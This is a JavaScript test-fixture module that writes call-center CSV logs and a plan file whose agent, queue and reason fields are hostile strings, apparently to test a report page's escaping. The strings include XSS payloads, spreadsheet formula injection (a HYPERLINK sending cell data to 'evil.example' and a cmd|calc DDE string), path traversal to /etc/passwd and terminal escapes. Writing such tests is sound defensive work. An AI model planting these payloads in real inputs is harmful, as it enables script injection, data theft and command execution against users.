// Awkward logs for the page: hostile names, and logs that tell next to nothing.
import { writeFileSync } from "node:fs";
import { join } from "node:path";

/** Names that try to become something else than text. */
export const HOSTILE = [
  "<script>window.ran=1;alert(1)</script>",
  "\"><img src=x onerror=\"window.ran=1\">",
  "</style><script>alert(2)</script>",
  "</title><script>alert(3)</script>",
  "<svg onload=alert(4)>",
  "javascript:alert(5)",
  "=HYPERLINK(\"http://evil.example/\"&A1,\"pay\")",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "&lt;b&gt;&amp;amp;{{7*7}}${7*7}",
  "' onmouseover='window.ran=1",
  "a\u202egpj.exe",
  "שלום עולם",
  "مرحبا <b>bold</b>",
  "😀👩‍👩‍👧‍👦🏳️‍🌈",
  "W".repeat(300),
  "../../etc/passwd",
  "C:\\con\\nul",
  "..",
  "a\u0007b\u001b[31mred",
];

/** A name as the program reads it: what could steer a terminal or turn a line is a blank. */
export const read = (name) =>
  name.trim().replace(/[\p{Cc}\u200e\u200f\u202a-\u202e\u2066-\u2069]/gu, " ");

const quoted = (text) => `"${String(text).replaceAll('"', '""')}"`;

const HEADER = [
  "contact_id", "started_at", "direction", "channel", "queue", "issue", "agent", "team", "customer_id", "wait_seconds",
  "talk_seconds", "hold_seconds", "after_call_work_seconds", "outcome", "transferred", "resolved", "satisfaction",
];

/** A month of calls whose agents, queues, teams and issues all have hostile names. */
export function hostile(folder) {
  let seed = 12345;
  const random = (n) => (seed = (seed * 1103515245 + 12345) % 2147483648) % n;
  const lines = [HEADER.join(",")];
  for (let i = 0; i < 2400; i++) {
    const at = new Date(Date.UTC(2026, 2, 1) + i * 1_080_000).toISOString().slice(0, 19).replace("T", " ");
    const lost = random(20) === 0;
    const agent = lost ? "" : HOSTILE[i % HOSTILE.length];
    const row = [
      `K${i}`, at, "inbound", "voice", HOSTILE[random(3) * 4 + 1], HOSTILE[random(4) + 3], agent, HOSTILE[i % 5],
      `C${random(900)}`, random(60), lost ? "" : 60 + random(400), lost ? "" : random(20), lost ? "" : random(60),
      lost ? "abandoned" : "answered", lost ? "" : random(12) === 0 ? "yes" : "no", lost ? "" : "yes",
      lost || random(4) ? "" : 1 + random(5),
    ];
    lines.push(row.map(quoted).join(","));
  }
  const log = join(folder, "calls.csv");
  writeFileSync(log, lines.join("\n") + "\n");
  return log;
}

/** A plan whose name is hostile, and a decision whose reason is; `plan` is the text of a plan to start from. */
export function hostilePlan(folder, plan) {
  const name = "</title><script>window.ran=1;alert(6)</script>\u202e";
  const file = join(folder, "plan.toml");
  writeFileSync(file, plan.replace(/^name = .*$/m, `name = ${JSON.stringify(name)}`));
  const why = "<img src=x onerror=alert(7)> \"why\" </td></table><script>alert(8)</script>";
  const by = "<b>Boss</b>";
  const rows = [
    ["agent", "period", "decision", "amount", "by", "when", "why"],
    [read(HOSTILE[0]), "2026-03", "override", "12.00", by, "2026-04-02", why],
  ];
  writeFileSync(join(folder, "decisions.csv"), rows.map((row) => row.map(quoted).join(",")).join("\n") + "\n");
  return { file, name, why, by };
}

/** Logs that tell next to nothing, by what they lack. */
export function tiny(folder) {
  const write = (name, lines) => {
    const file = join(folder, `${name}.csv`);
    writeFileSync(file, lines.join("\n") + "\n");
    return file;
  };
  const start = (i) => `2026-03-0${1 + (i % 9)} 10:${String(10 + (i % 40)).padStart(2, "0")}:00`;
  const many = (row) => Array.from({ length: 60 }, (_, i) => row(i));
  return {
    "one call": write("one-call", ["started_at,agent,queue,talk_seconds", "2026-03-02 10:00:00,Ada,Help,300"]),
    "one agent": write("one-agent", ["started_at,agent,queue,talk_seconds,wait_seconds,outcome",
      ...many((i) => `${start(i)},Ada,Help,${100 + i * 7},${i},answered`)]),
    "no customers and no waits": write("no-customers", ["started_at,agent,queue,talk_seconds",
      ...many((i) => `${start(i)},${["Ada", "Ben", "Cy"][i % 3]},Help,${100 + i * 7}`)]),
    "one answered": write("one-answered", ["started_at,agent,queue,talk_seconds,wait_seconds,outcome",
      ...many((i) => (i ? `${start(i)},,Help,,${i},abandoned` : `${start(i)},Ada,Help,200,3,answered`))]),
  };
}
